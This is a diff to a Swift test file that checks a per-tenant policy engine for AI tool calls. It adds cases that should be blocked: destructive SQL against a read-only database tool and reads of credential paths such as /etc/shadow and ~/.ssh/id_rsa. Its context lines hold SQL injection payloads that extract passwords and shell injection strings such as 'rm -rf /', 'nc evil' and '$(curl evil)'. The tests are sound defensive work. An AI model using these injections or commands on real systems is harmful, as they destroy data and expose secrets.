@@ -139,6 +139,10 @@ struct AttackTableTests {
             ("acme", "query_db", #"{"sql":"select '; DO $$BEGIN DELETE FROM t; END$$ LANGUAGE plpgsql --'"}"#),
             ("acme", "query_db", #"{"sql":"select ' OR (SELECT substr(password,1,1) FROM users WHERE id=1)='s"}"#),
             ("acme", "query_db", #"{"sql":"select ' OR CAST((SELECT password FROM users LIMIT 1) AS int)=1 OR name='"}"#),
+            // acme's A2 says read-only SQL, and means it (found by review: only the injection detector ran).
+            ("acme", "query_db", #"{"sql":"DROP TABLE users"}"#), ("acme", "query_db", #"{"sql":"UPDATE users SET admin=true"}"#),
+            ("acme", "query_db", #"{"sql":"VACUUM INTO '/tmp/x.db'"}"#),
+            ("acme", "query_db", #"{"sql":"SELECT load_extension('/tmp/x.so')"}"#),
         ])
     func sqlInjection(tenant: String, tool: String, arguments: String) throws {
         let decision = try decide(tenant, tool, arguments)
@@ -166,6 +170,8 @@ struct AttackTableTests {
         arguments: [
             "report.pdf; rm -rf /", "a.pdf | nc evil 1", "$(curl evil)", "`id`.pdf", "a.pdf && reboot", "x > /etc/passwd",
             "${IFS}cat", "$HOME/x", "a.pdf\nrm", "%3B%20rm%20-rf", "ａ．ｐｄｆ；ｒｍ",
+            // Found by review: X4 took absolute paths.
+            "/etc/shadow", "~/.ssh/id_rsa",
         ])
     func shell(filename: String) throws {
         let escaped = filename.replacingOccurrences(of: "\n", with: "\\n")
